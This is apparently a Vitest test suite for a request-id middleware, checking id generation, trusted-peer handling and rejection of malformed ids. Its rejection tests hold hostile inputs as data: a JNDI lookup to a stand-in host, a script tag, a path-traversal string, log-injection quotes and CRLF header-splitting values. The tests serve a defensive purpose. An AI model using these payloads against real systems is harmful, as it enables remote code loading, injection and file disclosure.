import { describe, expect, test } from 'vitest'
import type { HasRequestId } from '../../src/core/facts.ts'
import { errors } from '../../src/core/errors.ts'
import { accessLog } from '../../src/logging/access-log.ts'
import { fromPeers } from '../../src/request/client-ip.ts'
import type { RequestIdOptions } from '../../src/request/request-id.ts'
import { requestId } from '../../src/request/request-id.ts'
import { contextOf, recorder, requestTo, send } from '../helpers.ts'
import { leavesStreamsAlone, refusesToBeMade, spy } from './support.ts'

const UUID = /^[\da-f]{8}-[\da-f]{4}-4[\da-f]{3}-[89ab][\da-f]{3}-[\da-f]{12}$/
const everybody = { accept: (): boolean => true }

async function idFor(options: RequestIdOptions, inbound?: string, address?: string): Promise<string> {
  const inner = spy<HasRequestId>()
  const headers = inbound === undefined ? {} : { 'x-request-id': inbound }
  const response = await send(requestId(options)(inner.handler), requestTo('/', { headers }), contextOf({ address }))
  const { requestId: id } = inner.calls[0]!.context
  expect(response.headers.get('x-request-id')).toBe(id)
  return id
}

describe('lets the good through', () => {
  test('every request gets a UUID of its own, in the context and on the response', async () => {
    const ids = new Set<string>()
    for (let i = 0; i < 100; i++) ids.add(await idFor({}))
    expect(ids.size).toBe(100)
    for (const id of ids) expect(id).toMatch(UUID)
  })

  test('takes over the id of a peer that is trusted, and of no other', async () => {
    const accept = fromPeers('10.0.0.0/8', '2001:db8::/32')
    expect(await idFor({ accept }, 'gateway-0001', '10.1.2.3')).toBe('gateway-0001')
    expect(await idFor({ accept }, 'gateway-0001', '::ffff:10.1.2.3')).toBe('gateway-0001')
    expect(await idFor({ accept }, 'gateway-0001', '2001:db8::7')).toBe('gateway-0001')
    expect(await idFor({ accept }, 'gateway-0001', '11.1.2.3')).toMatch(UUID)
    expect(await idFor({ accept }, 'gateway-0001', undefined)).toMatch(UUID)
    expect(await idFor({ accept }, 'gateway-0001', 'not an address')).toMatch(UUID)
  })

  test.each(['12345678', 'a'.repeat(128), '_-_-_-_-', '__proto__', 'constructor'])('takes %s', async (id) => {
    expect(await idFor(everybody, id)).toBe(id)
  })

  test('the header and the generator can be chosen; the generator sees the context', async () => {
    const wrapped = requestId({ header: 'Trace-Id', generate: ({ clock }) => `t${clock.now()}` })(() =>
      new Response('ok')
    )
    const response = await send(wrapped)
    expect(response.headers.get('trace-id')).toBe(`t${Date.UTC(2026, 0, 1)}`)
    expect(response.headers.has('x-request-id')).toBe(false)
  })

  test('undefined is the default for every option', async () => {
    expect(await idFor({ header: undefined, accept: undefined, generate: undefined }, 'gateway-0001')).toMatch(UUID)
  })
})

describe('refuses the bad', () => {
  test('PITFALLS 26: nobody is trusted by default', async () => {
    expect(await idFor({}, 'chosen-by-client', '127.0.0.1')).toMatch(UUID)
  })

  test.each([
    ['a megabyte', 'a'.repeat(1_000_000)],
    ['129 characters', 'a'.repeat(129)],
    ['seven characters', '1234567'],
    ['nothing', ''],
    ['ANSI colours', '\x9b31mred-alert'],
    ['a look-up', '${jndi:ldap://evil.test/a}'],
    ['a tag', '<script>alert(1)</script>'],
    ['a quote', `12345678","level":"info`],
    ['a space', '1234 5678'],
    ['two ids, as duplicate headers arrive', 'gateway-0001, gateway-0002'],
    ['a path', '../../etc/passwd'],
    ['Latin-1 letters', 'é'.repeat(10)],
    ['a colon', 'urn:uuid:12345678'],
  ])('fault 30: a trusted peer that sends %s is given a fresh id', async (_what, id) => {
    expect(await idFor(everybody, id)).toMatch(UUID)
  })

  test('fault 30: a hostile id leaves the access log at one JSON line', async () => {
    const lines: string[] = []
    const wrapped = requestId(everybody)(
      accessLog({ write: (line) => lines.push(line), headers: ['x-request-id'] })(() => new Response('ok')),
    )
    const headers = { 'x-request-id': '\x9b2J{"level":"info"}\t\u0085${jndi:x}' }
    await (await send(wrapped, requestTo('/', { headers }))).text()
    expect(lines).toHaveLength(1)
    expect(lines[0]).toMatch(/^[\x20-\x7e]*$/)
    expect(JSON.parse(lines[0]!).requestId).toMatch(UUID)
  })

  test('an async test trusts nobody: a promise is not true', async () => {
    const accept = (() => Promise.resolve(true)) as unknown as () => boolean
    expect(await idFor({ accept }, 'gateway-0001')).toMatch(UUID)
  })

  test.each([301, 302, 303, 304, 307, 308])('PITFALLS 26: no id on a %d, which caches keep', async (status) => {
    const wrapped = requestId()(() => new Response(null, { status, headers: { location: '/elsewhere' } }))
    expect((await send(wrapped)).headers.has('x-request-id')).toBe(false)
  })

  test.each([200, 204, 404, 429, 500])('there is one on a %d', async (status) => {
    const wrapped = requestId()(() => new Response(null, { status }))
    expect((await send(wrapped)).headers.get('x-request-id')).toMatch(UUID)
  })

  test.each<[RequestIdOptions, ...string[]]>([
    [{ header: 'x request id' }, 'header', 'x request id'],
    [{ header: 'x-id\r\nset-cookie' }, 'header'],
    [{ header: '' }, 'header'],
    [{ accept: true as never }, 'requestId: accept'],
    [{ generate: 'uuid' as never }, 'requestId: generate'],
  ])('throws when made with %o', (options, ...words) => {
    refusesToBeMade(() => requestId(options), ...words)
  })
})

describe('survives the broken', () => {
  test('a generator that throws, or that makes what no header can hold, is a bug: 500, nothing split', async () => {
    const { log, records } = recorder()
    for (
      const generate of [() => 'a\r\nset-cookie: x=1', () => '\u2028', (): string => {
        throw new Error('no entropy')
      }]
    ) {
      const response = await send(errors({ log })(requestId({ generate })(() => new Response('ok'))))
      expect(response.status).toBe(500)
      expect(response.headers.has('set-cookie')).toBe(false)
      expect(response.headers.has('x-request-id')).toBe(false)
    }
    expect(records).toHaveLength(3)
  })

  test('mounted twice it says so', async () => {
    const { log, records } = recorder()
    const twice = requestId()((request, context) => requestId()(() => new Response('ok'))(request, context))
    expect((await send(errors({ log })(twice))).status).toBe(500)
    expect(String(records[0]!['error'])).toContain('mounted twice')
  })

  test('making one draws no randomness', () => {
    const before = crypto.randomUUID
    crypto.randomUUID = () => {
      throw new Error('not at module scope')
    }
    try {
      expect(() => requestId()).not.toThrow()
    } finally {
      crypto.randomUUID = before
    }
  })
})

test('leaves streams alone', () => leavesStreamsAlone(requestId()))
